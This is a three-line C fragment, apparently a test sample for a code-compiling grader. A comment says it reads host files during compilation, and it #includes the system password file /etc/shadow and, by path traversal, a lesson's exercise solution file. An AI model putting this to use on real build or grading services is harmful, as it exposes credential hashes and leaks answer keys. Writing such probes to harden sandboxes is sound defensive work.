/* Reads files of the host while it is compiled. */
#include "/etc/shadow"
#include "../../../lessons/03_online_softmax/exercise/solution/online_softmax.c"
